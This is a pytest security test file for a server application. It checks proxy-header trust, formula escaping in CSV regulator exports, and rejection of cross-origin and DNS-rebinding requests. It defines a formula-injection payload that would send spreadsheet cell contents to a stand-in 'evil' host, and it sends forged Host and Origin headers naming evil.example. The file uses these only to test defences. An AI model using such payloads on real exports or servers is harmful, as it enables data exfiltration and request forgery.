"""L2, L3, L10: proxies are believed by setting only, exported cells are harmless, pages from elsewhere sign nobody in."""

from __future__ import annotations

import csv
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
from tests.server.served_app import PASSWORD, Served, served
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from houseway.server.accounts import users
from houseway.server.ops import regulator_export
from houseway.server.ops.settings import load_settings
from houseway.server.storage import schema

FORGED = '=HYPERLINK("http://evil/"&A1)'


def acts(house: Served) -> list[str]:
    with house.floor.store.begin_read() as connection:
        return list(connection.execute(sa.select(schema.acts.c.about).order_by(schema.acts.c.id)).scalars())


def sign_in(house: Served, forwarded: str) -> str:
    """Sign in through a proxy that forwards an address; the address that the audit log has."""
    headers = {"x-forwarded-for": forwarded}
    answer = httpx.post(f"{house.base}/api/session", json={"name": "Olga", "password": PASSWORD}, headers=headers)
    assert answer.status_code == 201
    return acts(house)[-1]


def test_forwarded_addresses_are_ignored_by_default(tmp_path: Path) -> None:
    with served(tmp_path) as house:
        assert sign_in(house, "192.0.2.7") == "127.0.0.1"
        assert sign_in(house, FORGED) == "127.0.0.1"


def test_forwarded_addresses_are_believed_from_named_proxies_and_only_if_they_are_addresses(tmp_path: Path) -> None:
    with served(tmp_path, proxies=["127.0.0.1"]) as house:
        assert sign_in(house, "192.0.2.7") == "192.0.2.7"
        assert sign_in(house, "198.51.100.9, 192.0.2.8") == "192.0.2.8", (
            "the one that our proxy saw, not what it was told"
        )
        assert sign_in(house, FORGED) == "nowhere"


def test_proxies_that_are_not_the_peer_are_not_believed(tmp_path: Path) -> None:
    with served(tmp_path, proxies=["10.9.8.7"]) as house:
        assert sign_in(house, "192.0.2.7") == "127.0.0.1"


def test_clients_behind_a_proxy_are_limited_one_by_one(tmp_path: Path) -> None:
    with served(tmp_path, proxies=["127.0.0.1"], requests_a_minute=3, connections_per_address=1) as house:
        for _ in range(3):
            assert httpx.get(f"{house.base}/api/rules", headers={"x-forwarded-for": "192.0.2.1"}).status_code == 200
        assert httpx.get(f"{house.base}/api/rules", headers={"x-forwarded-for": "192.0.2.1"}).status_code == 429
        assert httpx.get(f"{house.base}/api/rules", headers={"x-forwarded-for": "192.0.2.2"}).status_code == 200


def test_lists_of_settings_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOUSEWAY_PROXIES", "10.0.0.1 10.0.1.0/24")
    monkeypatch.setenv("HOUSEWAY_ALLOWED_HOSTS", "casino.example")
    found = load_settings()
    assert (found.proxies, found.allowed_hosts) == (("10.0.0.1", "10.0.1.0/24"), ("casino.example",))


def test_cells_of_the_export_are_no_formulas(tmp_path: Path) -> None:
    with served(tmp_path / "data") as house:
        for text in (FORGED, "+1", "-1", "@SUM(1)", "plain", "\t=1"):
            users.write_audit_log(house.floor.store, None, "test", text)
        list(regulator_export.export_bundle(house.floor.store, house.floor.keys, tmp_path / "out"))
    rows = list(csv.DictReader((tmp_path / "out" / "acts.csv").read_text().splitlines()))
    about = [row["about"] for row in rows if row["act"] == "test"]
    assert about[:5] == [f"'{FORGED}", "'+1", "'-1", "'@SUM(1)", "plain"]
    books = (tmp_path / "out" / "postings.csv").read_text()
    assert "'-" not in books, "amounts stay numbers"


@pytest.mark.parametrize("path", ["/api/session/guest", "/api/session"])
def test_pages_from_elsewhere_sign_nobody_in(tmp_path: Path, path: str) -> None:
    body = b'{"name": "Olga", "password": "%s"}' % PASSWORD.encode() if path == "/api/session" else b'{"name": "Gus"}'
    with served(tmp_path, origins=["https://board.example"]) as house:
        json = {"content-type": "application/json"}
        for headers, status in (
            ({"content-type": "text/plain"}, 415),
            ({"content-type": "application/x-www-form-urlencoded"}, 415),
            ({}, 415),
            ({**json, "origin": "https://evil.example"}, 403),
            ({**json, "origin": "null"}, 403),
        ):
            answer = httpx.post(house.base + path, content=body, headers=headers)
            assert (answer.status_code, "set-cookie" in answer.headers) == (status, False), headers
        good = [{**json, "origin": house.base}, {**json, "origin": "https://board.example"}, json]
        for number, headers in enumerate(good):
            answer = httpx.post(house.base + path, content=body.replace(b"Gus", b"Gus %d" % number), headers=headers)
            assert answer.status_code == 201, (headers, answer.text)


def test_only_allowed_names_reach_the_server(tmp_path: Path) -> None:
    with served(tmp_path, allowed_hosts=["casino.example", "127.0.0.1"]) as house:
        assert httpx.get(f"{house.base}/health").status_code == 200
        assert httpx.get(f"{house.base}/health", headers={"host": "Casino.Example:443"}).status_code == 200
        for host in ("evil.example", "evil.example:8765", "127.0.0.1.evil.example", ""):
            assert httpx.get(f"{house.base}/health", headers={"host": host}).status_code in (400, 421), host
        rebound = {"host": "evil.example", "origin": "http://evil.example"}
        assert httpx.post(f"{house.base}/api/session/guest", json={"name": "Eve"}, headers=rebound).status_code == 421
        with pytest.raises(InvalidStatus):
            connect(f"{house.base.replace('http://127.0.0.1', 'ws://localhost')}/live")


def test_a_page_that_binds_its_name_to_this_machine_is_not_served(tmp_path: Path) -> None:
    """DNS rebinding: the browser sends the page's own name as Host and Origin, to 127.0.0.1."""
    rebound = {"host": "evil.example:8765", "origin": "http://evil.example:8765"}
    with served(tmp_path / "local") as house:
        guest = f"{house.base}/api/session/guest"
        assert httpx.post(guest, json={"name": "Eve"}, headers=rebound).status_code == 421
        for host in ("127.0.0.1", "localhost:8765", "LOCALHOST", "[::1]:8765", "192.0.2.7"):
            assert httpx.get(f"{house.base}/health", headers={"host": host}).status_code == 200, host
        with pytest.raises(InvalidStatus):
            connect(f"{house.base.replace('http', 'ws')}/live", additional_headers={"Host": "evil.example"})
    with served(tmp_path / "proxied", proxies=["127.0.0.1"]) as house:  # the proxy passes the names of the house on
        assert httpx.get(f"{house.base}/health", headers={"host": "casino.example"}).status_code == 200
